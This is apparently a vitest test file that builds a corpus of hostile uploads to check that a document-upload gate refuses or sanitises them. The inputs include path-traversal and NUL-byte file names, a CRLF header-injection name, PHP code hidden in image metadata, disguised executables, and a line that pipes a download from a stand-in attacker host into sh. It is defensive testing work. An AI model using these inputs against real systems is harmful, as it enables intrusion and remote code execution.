import { describe, expect, it } from 'vitest';
import {
  expectTooLarge,
  expectUnsupported,
  handmadePng,
  jpeg,
  onePagePdf,
  png,
  pngChunk,
  withPngChunk,
} from './hostile-files.js';
import { checkUpload, MAX_UPLOAD_BYTES } from './uploads.js';
import {
  accept,
  baseJpeg,
  basePng,
  bmp,
  type Case,
  elf,
  FAMILIES,
  type Family,
  type HostileFile,
  HTML,
  ico,
  padTo,
  PHP,
  portableExecutable,
  reencoded,
  refuse,
  refuseAsTooLarge,
  sharpImage,
  storedAs,
  SVG,
  withJpegSegment,
  withPdfDecodingBudget,
} from './upload-corpus.test-kit.js';
import {
  bombs,
  markupRenamed,
  pdfActiveContent,
  pixelFloods,
  polyglots,
} from './upload-corpus-cases.test-kit.js';

/**
 * Issue 15: a corpus of hostile files, each built here from real bytes, that
 * the upload gate must refuse, or accept only in a form that no longer
 * carries what was smuggled in (a freshly encoded image; the name the KYC
 * service keeps). PDFs are stored byte for byte, so a hostile PDF must be
 * refused.
 */

/** A plain 8 × 8 PNG under a hostile name: the name is what is under test. */
const namedPng = (name: string, filename: string, stored: string) =>
  accept(name, filename, basePng, storedAs(stored));

const hostileNames: HostileFile[] = [
  namedPng('a path climbing out of the folder', '../../etc/passwd.png', 'passwd.png'),
  namedPng('a Windows path climbing out of the folder', '..\\..\\Windows\\System32\\evil.png', 'evil.png'),
  namedPng('an absolute path', '/etc/cron.d/job.png', 'job.png'),
  namedPng('a Windows drive path', 'C:\\Windows\\Temp\\drive.png', 'drive.png'),
  namedPng('dots and doubled slashes', '....//....//dots.png', 'dots.png'),
  namedPng(
    'a percent-encoded path',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd.png',
    '_2e_2e_2f_2e_2e_2fetc_2fpasswd.png',
  ),
  namedPng('full-width slashes that NFKC turns into /', 'a\uff0f..\uff0fb.png', 'a_.._b.png'),
  namedPng('a NUL byte before the extension', 'a\u0000.png', 'a_.png'),
  namedPng('a NUL byte after a .php extension', 'shell.php\u0000.png', 'shell.php_.png'),
  namedPng('only NUL bytes', '\u0000\u0000.png', '__.png'),
  namedPng('a right-to-left override', 'passport\u202egnp.png', 'passport_gnp.png'),
  namedPng('a zero-width space', 'pass\u200bport.png', 'pass_port.png'),
  namedPng(
    'a header injection with CR LF',
    'a\r\nSet-Cookie: session=x\r\n.png',
    'a__Set-Cookie_ session_x__.png',
  ),
  namedPng('markup in the name', '<script>alert(1)<\\script>.png', 'script_.png'),
  namedPng('a name of 10,000 characters', `${'a'.repeat(10_000)}.png`, `${'a'.repeat(96)}.png`),
  namedPng('only an extension, a hidden file', '.png', 'png'),
  refuse('a right-to-left override hiding .exe', 'passport\u202egnp.exe', basePng),
  refuse('a NUL byte after the extension', 'passport.png\u0000', basePng),
  refuse('a trailing space, which Windows drops', 'passport.png ', basePng),
  refuse('a trailing dot, which Windows drops', 'passport.png.', basePng),
  refuse('an NTFS alternate data stream', 'passport.png::$DATA', basePng),
  refuse('a full-width dot before the extension', 'passport\uff0epng', basePng),
  refuse('an empty name', '', basePng),
];

const doubleExtensions: HostileFile[] = [
  accept(
    'x.php.png with PHP code in a tEXt chunk',
    'x.php.png',
    async () => withPngChunk(await basePng(), pngChunk('tEXt', Buffer.from(`Comment\0${PHP}`))),
    storedAs('x.php.png', ['system(']),
  ),
  accept(
    'x.php.jpg with PHP code in a comment segment',
    'x.php.jpg',
    async () => withJpegSegment(await baseJpeg(), 0xfe, PHP),
    reencoded('jpeg', 16, 16, ['system(']),
  ),
  accept('x.asp;.png, an IIS semicolon name', 'x.asp;.png', basePng, storedAs('x.asp_.png')),
  refuse('x.png.exe', 'x.png.exe', basePng),
  refuse('x.png.php', 'x.png.php', basePng),
  refuse('x.jpg.html with an HTML page', 'x.jpg.html', () => Buffer.from(HTML)),
  refuse('x.jpg.svg with an SVG', 'x.jpg.svg', () => Buffer.from(SVG)),
  refuse('x.pdf.js with a script', 'x.pdf.js', () => Buffer.from('app.alert(1);')),
  refuse('x.pdf.exe with an executable', 'x.pdf.exe', portableExecutable),
  refuse('x.html.pdf with an HTML page', 'x.html.pdf', () => Buffer.from(HTML)),
];

const corrupt: HostileFile[] = [
  refuse('an empty file named .png', 'empty.png', () => Buffer.alloc(0)),
  refuse('an empty file named .jpg', 'empty.jpg', () => Buffer.alloc(0)),
  refuse('an empty file named .pdf', 'empty.pdf', () => Buffer.alloc(0)),
  refuse('one byte named .png', 'one.png', () => Buffer.from([0x89])),
  refuse('a PNG signature and nothing else', 'cut.png', () => Buffer.from('89504e470d0a1a0a', 'hex')),
  refuse('a PNG cut in the middle of IDAT', 'cut.png', async () => {
    const whole = await png(64, 64);
    return whole.subarray(0, whole.length - 30);
  }),
  refuse('a PNG without IEND', 'cut.png', async () => {
    const whole = await basePng();
    return whole.subarray(0, whole.length - 12);
  }),
  refuse('a PNG whose IHDR checksum is wrong', 'crc.png', async () => {
    const damaged = Buffer.from(await basePng());
    damaged.writeUInt32BE((damaged.readUInt32BE(29) ^ 0xffffffff) >>> 0, 29);
    return damaged;
  }),
  refuse('a PNG whose IDAT is not deflate data', 'garbage.png', () =>
    handmadePng(16, 16, [pngChunk('IDAT', Buffer.from('not deflate data at all'))]),
  ),
  refuse('a JPEG start-of-image marker and nothing else', 'cut.jpg', () => Buffer.from('ffd8ff', 'hex')),
  refuse('a JPEG cut in the middle of its scan', 'cut.jpg', async () => {
    const whole = await jpeg(64, 64);
    return whole.subarray(0, whole.length - 40);
  }),
  refuse('a JPEG without its end-of-image marker', 'cut.jpg', async () => {
    const whole = await baseJpeg();
    return whole.subarray(0, whole.length - 2);
  }),
  refuse('a PDF header and nothing else', 'cut.pdf', () => Buffer.from('%PDF-1.7\n')),
  refuse('a PDF cut before %%EOF', 'cut.pdf', () => {
    const whole = onePagePdf();
    return whole.subarray(0, whole.lastIndexOf('%%EOF'));
  }),
  refuse('a PDF with bytes before its header', 'shifted.pdf', () =>
    Buffer.concat([Buffer.from('\n\n'), onePagePdf()]),
  ),
  refuse('random bytes named .jpg', 'noise.jpg', () =>
    Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 73) % 256)),
  ),
  refuse('NUL bytes named .pdf', 'zeros.pdf', () => Buffer.alloc(4096)),
];

const oversize: HostileFile[] = [
  refuseAsTooLarge('a PDF of 10 MB and one byte', 'big.pdf', () => padTo(MAX_UPLOAD_BYTES + 1, onePagePdf())),
  refuseAsTooLarge('a PNG of 10 MB and one byte', 'big.png', async () =>
    padTo(MAX_UPLOAD_BYTES + 1, await basePng()),
  ),
  refuseAsTooLarge('a JPEG of 10 MB and one byte', 'big.jpg', async () =>
    padTo(MAX_UPLOAD_BYTES + 1, await baseJpeg()),
  ),
  refuseAsTooLarge('20 MB of anything', 'big.png', () => Buffer.alloc(2 * MAX_UPLOAD_BYTES, 0xff)),
];

const executables: HostileFile[] = [
  refuse('a Linux ELF executable, named .png', 'tool.png', elf),
  refuse('a Linux ELF executable, named .jpg', 'tool.jpg', elf),
  refuse('a Linux ELF executable, named .pdf', 'tool.pdf', elf),
  refuse('a Windows PE executable, named .png', 'setup.png', portableExecutable),
  refuse('a Windows PE executable, named .jpg', 'setup.jpg', portableExecutable),
  refuse('a Windows PE executable, named .pdf', 'setup.pdf', portableExecutable),
  refuse('a Windows PE executable with a PNG appended', 'setup.png', async () =>
    Buffer.concat([portableExecutable(), await basePng()]),
  ),
  refuse('a Linux ELF executable behind a PNG signature', 'tool.png', () =>
    Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), elf()]),
  ),
  refuse('a macOS Mach-O executable, named .jpg', 'tool.jpg', () =>
    Buffer.from('cffaedfe07000001030000000200000000000000', 'hex'),
  ),
  refuse('a Java class file, named .jpg', 'Evil.jpg', () => Buffer.from('cafebabe00000034000a0a0002', 'hex')),
  refuse('a WebAssembly module, named .png', 'module.png', () =>
    Buffer.from('0061736d0100000001040160000000', 'hex'),
  ),
  refuse('a shell script, named .png', 'install.png', () =>
    Buffer.from('#!/bin/sh\ncurl -s https://attacker.example/x | sh\n'),
  ),
  refuse('a Windows shortcut (.lnk), named .pdf', 'statement.pdf', () =>
    Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(56)]),
  ),
  refuse('an OLE compound file (MSI, old Office macros), named .pdf', 'statement.pdf', () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]),
  ),
];

const unsupportedImages: HostileFile[] = [
  refuse('a GIF, named .png', 'scan.png', () => sharpImage('gif')),
  refuse('a GIF, named .jpg', 'scan.jpg', () => sharpImage('gif')),
  refuse('a BMP, named .png', 'scan.png', bmp),
  refuse('a BMP, named .jpg', 'scan.jpg', bmp),
  refuse('a TIFF, named .jpg', 'scan.jpg', () => sharpImage('tiff')),
  refuse('a TIFF, named .png', 'scan.png', () => sharpImage('tiff')),
  refuse('a TIFF, named .pdf', 'scan.pdf', () => sharpImage('tiff')),
  refuse('a WebP, named .png', 'scan.png', () => sharpImage('webp')),
  refuse('a WebP, named .jpg', 'scan.jpg', () => sharpImage('webp')),
  refuse('an AVIF, named .jpg', 'scan.jpg', () => sharpImage('avif')),
  refuse('a Windows icon holding a PNG, named .png', 'scan.png', ico),
  refuse('a Photoshop document, named .png', 'scan.png', () =>
    Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), Buffer.alloc(80)]),
  ),
  refuse('a JPEG 2000 image, named .jpg', 'scan.jpg', () =>
    Buffer.concat([
      Buffer.from('0000000c6a5020200d0a870a00000014667479706a703220000000006a703220', 'hex'),
      Buffer.alloc(64),
    ]),
  ),
];

const CORPUS: Case[] = (
  [
    ['polyglot', polyglots],
    ['markup renamed', markupRenamed],
    ['bomb', bombs],
    ['pixel flood', pixelFloods],
    ['PDF active content', pdfActiveContent],
    ['hostile name', hostileNames],
    ['double extension', doubleExtensions],
    ['corrupt', corrupt],
    ['oversize', oversize],
    ['executable', executables],
    ['unsupported image', unsupportedImages],
  ] as const satisfies ReadonlyArray<readonly [Family, HostileFile[]]>
).flatMap(([family, files]) => files.map((file) => ({ ...file, family })));

describe('the hostile upload corpus', () => {
  it('holds at least 100 files, every family among them, each case named once', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(100);
    for (const family of FAMILIES)
      expect(CORPUS.filter((file) => file.family === family).length, family).toBeGreaterThanOrEqual(3);
    expect(new Set(CORPUS.map(({ family, name }) => `${family}: ${name}`)).size).toBe(CORPUS.length);
  });

  for (const { family, name, filename, build, outcome, pdfDecodingBudget } of CORPUS) {
    it(`${family}: ${name} is ${outcome.is}`, async () => {
      const file = { filename, bytes: await build() };
      await withPdfDecodingBudget(pdfDecodingBudget, async () => {
        if (outcome.is === 'refused') await expectUnsupported(file);
        else if (outcome.is === 'refused as too large') await expectTooLarge(file);
        else await outcome.check(await checkUpload(file), filename);
      });
    });
  }
});

describe('what the corpus is measured against', () => {
  it('still stores a PDF with web and e-mail links, and line ends and NULs after %%EOF, byte for byte', async () => {
    const links = onePagePdf('/OpenAction << /S /URI /URI (https://www.example.com/statement) >> ', [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (mailto:help@example.com) >> >>',
      `<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI <${Buffer.from('HTTP://example.com').toString('hex')}> >> >>`,
    ]);
    const document = Buffer.concat([links, Buffer.from('\r\n\0\0')]);
    expect(await checkUpload({ filename: 'statement.pdf', bytes: document })).toEqual({
      kind: 'pdf',
      contentType: 'application/pdf',
      bytes: document,
    });
  });
});
